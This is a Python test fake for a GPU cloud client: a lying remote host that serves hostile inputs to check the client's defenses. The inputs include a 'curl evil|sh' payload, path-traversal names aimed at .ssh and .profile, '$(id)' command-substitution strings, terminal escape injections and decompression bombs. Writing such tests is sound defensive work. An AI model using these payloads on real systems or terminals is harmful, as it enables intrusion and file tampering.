"""A machine whose every answer is made to harm whoever asks: names, links, sizes, bytes, JSON, text; by seed."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from random import Random
from typing import Any

from gpucloud.adapters.transfer.copying import packed_program
from gpucloud.domain.node.node import Node
from gpucloud.ports import Completed, PortForward
from tests.fakes.nodes import node_at

EVIL = b"curl evil|sh\n"
Says = Callable[[tuple[str, ...]], bytes | None]
Rows = Mapping[str, Any]

_PARTS = (
    "..", ".", "", "a", "b", "a", "p", "q", "z", "top", "results", ".ssh", ".profile", "authorized_keys", "out", "in",
    "...", ".. ", " ..", "..\\..", "C:", "\\", "con", "nul", "x.", "x ", "A", "\u00e9", "e\u0301", "\udcff", "\udc80..",
    "\n", "\r..", "\x1b]0;title\x07", "\u202e", "\0", "\0/..", "~", "~root", "-rf", "*", "$(id)", "`id`", "n" * 255,
    "n" * 256, "\U0001f4a5" * 70, ".gpucloud-landing-0", ".gpucloud-locks", "@code", "%2e%2e", "%2f", "\ud800",
)  # fmt: skip
_TAME = (
    "a",
    "b/c",
    "p/q/r",
    "z",
    "in/x",
    "d/e",
    "q/out/b",
    "mine/b",
    "notes",
    "model.bin",
    "s/t",
    "q/new",
    "in/y",
    "w",
)
_NUMBERS = (0, 1, -1, 4, 2**31, 2**53, 2**63, 2**64, -(2**63), 10**30, 1e308, True, None, "4", [4], 1.5)


def hostile_name(chance: Random, outside: Path) -> str:
    """Return a path that tries to be elsewhere, or odd."""
    parts = [chance.choice(_PARTS) for _ in range(chance.choice((1, 1, 2, 2, 3, 4, 6, 150)))]
    if chance.random() < 0.15:
        parts = [str(outside), *parts]
    if chance.random() < 0.2:
        parts = [*[".."] * chance.randrange(1, 6), *parts]
    return "/".join(parts)


def hostile_rows(chance: Random, outside: Path, asked: str) -> dict[str, Any]:
    """Return a listing as the program for copies gives it, of which something is a lie."""
    kinds = chance.choice(((), (), ("links",), ("links",), ("names",), ("tops",), ("folders",), ("links", "names")))
    top = hostile_name(chance, outside) if "tops" in kinds else asked
    tame = chance.sample(_TAME, 6)
    names = [hostile_name(chance, outside) if "names" in kinds else name for name in tame[: chance.randrange(1, 4)]]
    inner = [hostile_name(chance, outside) if "folders" in kinds else tame[3]]
    links = [[0, name, _target(chance, outside) if "links" in kinds else tame[0]] for name in tame[4:]]
    rows: dict[str, Any] = {
        "base": "/",
        "found": [[0, top]],
        "files": [[0, name, len(EVIL), 0o6777, chance.choice((0, -1, 10**19))] for name in names],
        "links": links if chance.random() < 0.7 else [],
        "folders": [[0, name, 0o7777] for name in inner if chance.random() < 0.5],
        "outside": [],
        "missing": [],
    }
    if chance.random() < 0.3:
        rows["folders"].insert(0, [0, "", 0o755])
    if chance.random() < 0.15:
        _spoil(chance, rows)
    return rows


def hostile_json(chance: Random, like: Any) -> bytes:
    """Return JSON that is made out of a good one: other kinds of values, numbers without measure, no end of nesting."""
    kind = chance.randrange(8)
    if kind == 0:
        return chance.choice((b"[", b'{"a":')) * chance.choice((500, 100_000))
    if kind == 1:
        return b"1" * chance.choice((100, 5000, 100_000))
    if kind == 2:
        return chance.choice((b"", b"\xff\xfe", b"null", b"NaN", b"-Infinity", b"{}", b"[]", b'"\\ud800"', b"\0" * 100))
    text = json.dumps(_changed(chance, like))
    if kind == 3:
        at = chance.randrange(len(text))
        return (text[:at] + chance.choice(("NaN", "1e999", "1" * 400, "\x00", '"', "}")) + text[at + 1 :]).encode()
    return text.encode()


def hostile_text(chance: Random) -> bytes:
    """Return output that would do something to a terminal, or has no end of a line."""
    pieces = (
        b"\x1b]0;owned\x07",
        b"\x1b]52;c;Y3VybCBldmls\x07",
        b"\x1b[2J\x1b[H",
        b"\x1b[31mred\x1b[0m",
        b"\x9b31m",
        b"\r",
        b"\b" * 9,
        b"\x1bP+q544e\x1b\\",
        b"\x1b[6n",
        b"\x1bc",
        "\u202eevil\u202c".encode(),
        b"step 1\n",
        b"\xff\xfe",
        b"\0",
        b"x" * 500,
        b"\x1b",
        b"\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
        "\u0085\u2028".encode(),
        b"\x1b[",
        b"\x1b]0;no end",
        b"\x0e\x0f",
    )
    return b"".join(chance.choice(pieces) for _ in range(chance.randrange(1, 12)))


def bomb(size: int) -> bytes:
    """Return so many bytes, packed into very few."""
    return gzip.compress(b"\0" * size, mtime=0)


class LyingHost:
    """Implements `Host`. `rows` is what it lists for copies; `says` answers every other command, None: exit code 1.

    Its files hold EVIL, and it proves them by the right hash; with `tells_more`, it sends more than was asked for.
    """

    def __init__(self, rows: Rows | bytes = b"", says: Says = lambda _: None, *, tells_more: bool = False) -> None:
        self.node: Node = replace(node_at(22, None), id="liar")
        self._rows = rows
        self._says = says
        self._tells_more = tells_more

    def run(self, argv: tuple[str, ...], *, stdin: bytes = b"", timeout_s: float = 30.0) -> Completed:
        """Answer with a lie."""
        del timeout_s
        asked = stdin.removeprefix(packed_program())
        request = json.loads(asked.partition(b"\n")[0]) if "-c" in argv and asked else None
        if request is None:
            said = self._says(argv)
            return Completed(exit_code=1 if said is None else 0, stdout=said or b"", stderr=b"\x1b]0;owned\x07no")
        return Completed(exit_code=0, stdout=b"".join(self._copied(request)), stderr=b"")

    def sync(self, root: Path, target: str) -> str:
        """Nothing is synced to it."""
        raise NotImplementedError

    def renew(self) -> None:
        pass

    def interact(self, argv: tuple[str, ...], forwards: tuple[PortForward, ...] = ()) -> int:
        """Nobody comes in."""
        raise NotImplementedError

    def close(self) -> None:
        """Nothing is open."""

    def _copied(self, request: Any) -> Iterator[bytes]:
        if request["op"] == "list":
            yield self._rows if isinstance(self._rows, bytes) else json.dumps(self._rows).encode()
        elif request["op"] == "hash":
            yield json.dumps([sha256(EVIL).hexdigest() for _ in request["pieces"]]).encode()
        elif request["op"] == "read":
            for _, offset, length in request["pieces"]:
                yield EVIL[offset : offset + length]
            if self._tells_more:
                yield EVIL
        else:
            yield b"[]"


def _target(chance: Random, outside: Path) -> str:
    names = ("a", "b", "p", "q", "z", "in", "mine", "..", "..", "..", ".ssh", "out")
    text = "/".join(chance.choice(names) for _ in range(chance.randrange(1, 7)))
    return chance.choice((text, text, text, str(outside), f"{outside}/profile", f"../{outside.name}", "/", "", "\0"))


def _spoil(chance: Random, rows: dict[str, Any]) -> None:
    kind = chance.choice(tuple(rows))
    if chance.random() < 0.5:
        rows[kind] = chance.choice(_NUMBERS)
    elif isinstance(rows[kind], list) and rows[kind]:
        row = rows[kind][0]
        row[chance.randrange(len(row))] = chance.choice(_NUMBERS)


def _changed(chance: Random, value: Any) -> Any:
    if chance.random() < 0.12:
        return chance.choice(
            (*_NUMBERS, "NaN", "1e999999999", "-1e400", "9" * 5000, "sNaN", "inf", {}, [], "\x1b]0;x\x07")
        )
    if isinstance(value, dict):
        return {key: _changed(chance, item) for key, item in value.items()}
    if isinstance(value, list):
        return [_changed(chance, item) for item in value]
    return value
